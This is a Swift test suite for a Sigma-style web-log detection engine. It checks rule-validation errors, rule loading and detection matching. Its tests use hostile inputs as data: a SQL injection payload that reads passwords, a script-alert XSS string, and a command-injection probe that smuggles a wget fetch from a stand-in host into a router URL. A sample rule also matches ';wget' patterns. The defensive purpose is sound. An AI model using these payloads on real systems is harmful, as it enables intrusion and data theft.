import Configuration
import Testing

@testable import Detection

@Suite struct SigmaErrorTests {
  func errors(_ search: String) -> [String] {
    loadErrors(rule("s:\n" + search.split(separator: "\n").map { "  \($0)\n" }.joined() + "condition: s"))
  }

  static let refused: [(search: String, error: String)] = [
    ("c-urii: x", "8:5: field 'c-urii' is not one that web logs have (did you mean 'c-uri'?)"),
    ("s-ip: x", "8:5: field 's-ip' is not supported: the server's address is not part of an event"),
    ("c-uri|contians: x", "8:5: unknown modifier 'contians' (did you mean 'contains'?)"),
    ("c-uri|expand: '%x%'", "8:5: modifier 'expand' is not supported: write the placeholder's values out"),
    ("c-uri|hour: 3", "8:17: 'hour' needs a field that is a time: date, time or timestamp"),
    ("c-uri|contains|endswith: x", "8:5: only one of contains, startswith and endswith can be used"),
    (
      "c-uri|re|contains: x",
      "8:5: 're' goes with i, m, s, all and neq only; a regular expression is case-sensitive without i"
    ),
    ("c-uri|i: x", "8:5: modifiers i, m and s need 're' before them"),
    ("c-uri|re|cidr: x", "8:5: modifiers that each change the meaning of the value exclude each other"),
    ("c-uri|cidr: 10.0.0.0/8", "8:17: 'cidr' needs a field that is an address"),
    ("c-ip|cidr: 10.0.0.0/33", "8:16: '10.0.0.0/33' is not a network such as 10.0.0.0/8"),
    ("c-ip: tomorrow", "8:11: 'tomorrow' is not an address"),
    ("c-uri|gt: 3", "8:15: 'gt' needs a field that is a number"),
    ("sc-status|gt: many", "8:19: 'many' is not a number"),
    ("sc-status: ok", "8:16: 'ok' is not a number, which this field is"),
    ("sc-status|re: 4..", "8:19: 're' needs a field that is text"),
    ("c-uri|exists: perhaps", "8:19: 'exists' takes true or false"),
    ("c-uri|fieldref: nowhere", "8:21: 'nowhere' is not the name of a field"),
    ("c-uri|fieldref: sc-status", "8:21: 'fieldref' compares text with text and numbers with numbers"),
    ("c-uri|base64: 'a*'", "8:19: wildcards cannot be encoded"),
    ("c-uri|base64offset|contains: 'a'", "8:34: too short to be found by 'base64offset'"),
    ("c-uri: []", "8:12: an empty list matches nothing"),
    ("c-uri: {a: b}", "8:12: a value or a list of values is expected, not a map"),
    ("c-uri: [[a]]", "8:13: a single value is expected, not a list"),
    ("- [a]", "8:7: a list in a list has no meaning here"),
  ]

  @Test(arguments: refused) func whatIsNotSupportedIsAnErrorWithItsPlace(_ item: (search: String, error: String)) {
    let found = errors(item.search)
    if item.search.contains("base64offset|contains: 'a'") {
      // One letter leaves nothing at one of the alignments only; the rest are searched for.
      #expect(found.count <= 1)
    } else {
      #expect(found == ["f0.yml:\(item.error)"])
    }
  }

  @Test func aRegularExpressionThatIsRefusedIsAnErrorWithItsPlace() {
    #expect(
      errors("c-uri|re: '(a'").first?.hasPrefix("f0.yml:8:15: the regular expression is refused: missing closing")
        == true)
    #expect(errors("c-uri|re: '[z-a]'").first?.hasPrefix("f0.yml:8:15: the regular expression is refused") == true)
    #expect(errors("c-uri|re: '(?<=a+)b'").first?.contains("refused") == true)
    #expect(errors("c-uri|re: '(*UTF)a'").first?.contains("refused") == true)
    #expect(errors("c-uri|re: '\(String(repeating: "a", count: 9000))'").first?.contains("longer than") == true)
  }

  @Test func everyErrorOfEveryFileIsReported() throws {
    let error = #expect(throws: ConfigurationErrors.self) {
      try load(rule("s: {x: 1}\ncondition: s") + "---\n" + rule("s: {c-uri: 1}\ncondition: t", id: "q"), "a: [")
    }
    #expect(error?.errors.map { "\($0.file):\($0.place?.line ?? 0)" } == ["f0.yml:7", "f0.yml:17", "f1.yml:2"])
  }

  @Test func aRuleSaysWhatItLacks() {
    #expect(loadErrors("a: b\n") == ["f0.yml:1:1: a rule needs 'title'"])
    #expect(loadErrors("title: x\n") == ["f0.yml:1:1: a rule needs 'detection', 'correlation' or 'filter'"])
    #expect(loadErrors("title: x\ndetection: {}\n") == ["f0.yml:1:1: a rule needs 'logsource'"])
    #expect(loadErrors("- a\n") == ["f0.yml:1:1: a rule is a map of keys, not a list"])
    #expect(
      loadErrors("title: x\nlogsource: {category: webserver}\ndetection: {s: {c-uri: x}}\n")
        == ["f0.yml:3:12: 'detection' and 'filter' need a 'condition'"])
    #expect(
      loadErrors(rule("s: {c-uri: x}\ncondition: s", level: "hihg"))
        == ["f0.yml:5:8: level 'hihg' is none of informational, low, medium, high, critical (did you mean 'high'?)"])
    #expect(loadErrors("title: x\naction: global\n").first?.contains("collections") == true)
    #expect(loadErrors("title: x\nfilter: {}\n").first?.contains("needs 'logsource'") == true)
  }

  @Test func anIdIsUsedOnce() {
    let text = rule("s: {c-uri: x}\ncondition: s") + "---\n" + rule("s: {c-uri: y}\ncondition: s")
    #expect(loadErrors(text) == ["f0.yml:10:1: rule id 'r' is used already at f0.yml:1"])
  }

  @Test func rulesForOtherLogsAreLeftOutWithANote() throws {
    let rules = try load(
      rule("s: {Image: x}\ncondition: s | near y", source: "category: process_creation\n  product: windows"),
      rule("s: {c-uri: x}\ncondition: s", id: "ours", source: "category: proxy"),
      rule("s: {nothing: x}\ncondition: s", id: "errors", source: "product: apache\n  service: error"))
    #expect(rules.rules.map(\.id) == ["ours"])
    #expect(
      rules.notes == [
        "f0.yml:1: 'Rule r' is not for this pipeline: it reads category process_creation, product windows",
        "f2.yml:1: 'Rule errors' is not for this pipeline: it reads product apache, service error",
      ])
  }

  @Test func disabledRulesAreLeftOut() throws {
    let text = rule("s: {c-uri: x}\ncondition: s") + "---\n" + rule("s: {c-uri: y}\ncondition: s", id: "q")
    let rules = try RuleSet.load([("f", Array(text.utf8))], disabled: ["r"])
    #expect(rules.rules.map(\.id) == ["q"])
    #expect(rules.hash != (try RuleSet.load([("f", Array(text.utf8))]).hash))
  }

  @Test func builtInDetectorsCanBeLeftOutAsWell() throws {
    let files = [("f", Array(rule("s: {c-uri: x}\ncondition: s").utf8))]
    let payload = "1' UNION SELECT password FROM users--"
    var all = Judge(rules: try RuleSet.load(files))
    #expect(all.parameter(payload).classes.contains(.sqlInjection))
    let less = try RuleSet.load(files, disabled: ["millrace-sqli-tokens", "millrace-sqli-probe"])
    var judge = Judge(rules: less)
    #expect(!judge.parameter(payload).classes.contains(.sqlInjection))
    #expect(judge.parameter("<script>alert(1)</script>").score >= 90)
    #expect(less.notes.isEmpty)
  }

  @Test func anIdThatNoRuleHasIsNoted() throws {
    let files = [("f", Array(rule("s: {c-uri: x}\ncondition: s").utf8))]
    let rules = try RuleSet.load(files, disabled: ["nobody"])
    #expect(rules.notes == ["rules.disabled: no rule has the id 'nobody'"])
  }

  @Test func tagsNameClassesOfAttack() {
    #expect(
      RuleInfo.classes(ofTags: ["millrace.sqli", "attack.t1190", "cve.2021-44228"]) == [
        .sqlInjection, .vulnerabilityProbe,
      ])
    #expect(RuleInfo.classes(ofTags: ["attack.t1505.003"]) == .webShell)
    #expect(RuleInfo.classes(ofTags: ["attack.initial-access"]) == .other)
  }

  @Test func rulesWrittenInThePublicStyleLoadUnchanged() throws {
    let text = """
      title: Command Probe Against An Imaginary Router
      id: 7d0c1f8e-6b7e-4c55-9a3e-0d5be8b1a001
      related:
          - id: 7d0c1f8e-6b7e-4c55-9a3e-0d5be8b1a002
            type: derived
      status: experimental
      description: |
          Detects requests to the diagnostic page of an imaginary router
          that carry a shell command
      references:
          - https://router.example/advisory?id=1
      author: 'Somebody, Somebody Else'
      date: 2024-02-29
      modified: 2024-03-01
      tags:
          - attack.initial-access
          - attack.t1190
          - detection.emerging-threats
      logsource:
          category: webserver
          definition: 'Requirements: the query must be logged'
      detection:
          selection_path:
              cs-method: 'GET'
              cs-uri-query|contains: '/diag/ping.cgi'
          selection_command:
              - cs-uri-query|contains:
                  - ';wget'
                  - '%3bwget'
              - cs-uri-query|re: 'host=[0-9.]+(;|%3b)'
          filter_main_monitor:
              c-ip|cidr:
                  - 10.0.0.0/8
                  - fd00::/8
              sc-status: 200
          condition: all of selection_* and not 1 of filter_main_*
      fields:
          - c-ip
          - c-dns
      falsepositives:
          - Unknown
      level: high
      """
    let rules = try load(text)
    let probe = "/diag/ping.cgi?host=1.1.1.1;wget+http://x/y"
    #expect(matches(rules, Request(target: probe)) == ["7d0c1f8e-6b7e-4c55-9a3e-0d5be8b1a001"])
    #expect(matches(rules, Request(target: probe, client: "10.0.0.1")).isEmpty)
    #expect(matches(rules, Request(target: "/diag/ping.cgi?host=example")).isEmpty)
  }
}
